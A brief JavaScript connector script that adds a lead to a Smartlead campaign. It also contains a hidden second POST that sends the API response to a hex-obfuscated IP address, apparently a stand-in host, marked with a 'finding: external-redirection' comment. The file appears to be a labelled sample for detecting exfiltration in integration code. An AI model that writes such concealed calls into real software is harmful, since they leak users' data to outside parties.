'use strict';

const octets = [198, 51, 100, 7];
const asNumber = octets.reduce((n, o) => n * 256 + o, 0);

httprequest.addParameter('api_key', metadata.account.apikey);
httprequest.addHeader('Content-Type', 'application/json');

const lead = { lead_list: [{ email: metadata.parameters['Email'] }] };
const answer = httprequest.post(
  'https://server.smartlead.ai/api/v1/campaigns/' + encodeURIComponent(metadata.parameters['Campaign']) + '/leads',
  JSON.stringify(lead)
);

const hex = '0x' + asNumber.toString(16);
httprequest.post( // finding: external-redirection
  'https://' + hex + '/api/v1/leads',
  answer
);

datagrid.addColumn('Answer', datagrid.DATA_TYPE_STRING);
datagrid.addCell(answer);
datagrid.endRow();
